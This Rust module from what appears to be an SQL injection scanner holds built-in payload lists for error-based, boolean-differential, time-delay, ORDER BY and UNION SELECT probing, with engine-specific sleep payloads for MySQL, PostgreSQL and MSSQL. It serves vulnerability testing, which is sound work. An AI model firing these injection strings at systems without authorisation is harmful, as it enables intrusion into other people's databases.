// src/sqli/payloads.rs
//! Built-in payload catalogues. Every list can be replaced through
//! `PayloadConfig` (see `config.rs`).

use serde::{Deserialize, Serialize};

/// A true/false pair for boolean-differential testing
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct BooleanPair {
    #[serde(rename = "true")]
    pub true_payload: String,
    #[serde(rename = "false")]
    pub false_payload: String,
    #[serde(default)]
    pub label: Option<String>,
}

/// Time-delay payload. The label prefix names the engine (`mysql_`,
/// `postgres_`, `mssql_`, ...) so a fingerprint can bring it forward.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct TimePayload {
    pub p: String,
    #[serde(default)]
    pub label: Option<String>,
}

/// `ORDER BY` probe; `{n}` is replaced by the column index
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct OrderByPayload {
    pub template: String,
    #[serde(default)]
    pub label: Option<String>,
}

/// `UNION SELECT` probe; `{cols}` is replaced by `NULL,NULL,...`
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct UnionPayload {
    pub template: String,
    #[serde(default)]
    pub label: Option<String>,
}

fn s(v: &str) -> String {
    v.to_string()
}

pub fn error_payloads() -> Vec<String> {
    vec![
        s("'"),
        s("\""),
        s("\\"),
        s("')"),
        s("' OR '1'='1"),
        s("' OR 1=1--"),
        s("' OR 1=1 --"),
        s("' UNION SELECT null--"),
        s("1' AND 1=1--"),
        s("1' AND 1=2--"),
        s("' UNION SELECT 1--"),
        s("' UNION SELECT 1,2--"),
        s("' ORDER BY 1--"),
        s("' ORDER BY 2--"),
    ]
}

fn pair(t: &str, f: &str, label: &str) -> BooleanPair {
    BooleanPair {
        true_payload: s(t),
        false_payload: s(f),
        label: Some(s(label)),
    }
}

pub fn boolean_pairs() -> Vec<BooleanPair> {
    vec![
        pair("1' AND 1=1--", "1' AND 1=2--", "classic_boolean"),
        pair("' OR 'a'='a", "' OR 'a'='b", "or_boolean"),
        pair("1 AND 1=1", "1 AND 1=2", "numeric_boolean"),
        pair("' OR 1=1--", "' OR 1=2--", "sqlite_or_comment"),
        pair(") OR 1=1--", ") OR 1=2--", "paren_or_comment"),
    ]
}

fn timed(p: &str, label: &str) -> TimePayload {
    TimePayload {
        p: s(p),
        label: Some(s(label)),
    }
}

pub fn time_payloads() -> Vec<TimePayload> {
    vec![
        timed("'; WAITFOR DELAY '00:00:03'--", "mssql_waitfor"),
        timed("' OR SLEEP(3)--", "mysql_sleep"),
        timed("'; SELECT pg_sleep(3)--", "postgres_sleep"),
        timed("1; WAITFOR DELAY '00:00:03'--", "mssql_waitfor_numeric"),
    ]
}

pub fn order_by_payloads() -> Vec<OrderByPayload> {
    vec![
        OrderByPayload {
            template: s("' ORDER BY {n}--"),
            label: Some(s("quoted_order_by")),
        },
        OrderByPayload {
            template: s("1 ORDER BY {n}"),
            label: Some(s("numeric_order_by")),
        },
    ]
}

pub fn union_payloads() -> Vec<UnionPayload> {
    vec![
        UnionPayload {
            template: s("' UNION SELECT {cols}--"),
            label: Some(s("quoted_union_null")),
        },
        UnionPayload {
            template: s("1 UNION SELECT {cols}"),
            label: Some(s("numeric_union_null")),
        },
    ]
}

impl OrderByPayload {
    pub fn render(&self, n: usize) -> String {
        self.template.replace("{n}", &n.to_string())
    }
}

impl UnionPayload {
    pub fn render(&self, columns: usize) -> String {
        let cols = vec!["NULL"; columns].join(",");
        self.template.replace("{cols}", &cols)
    }
}
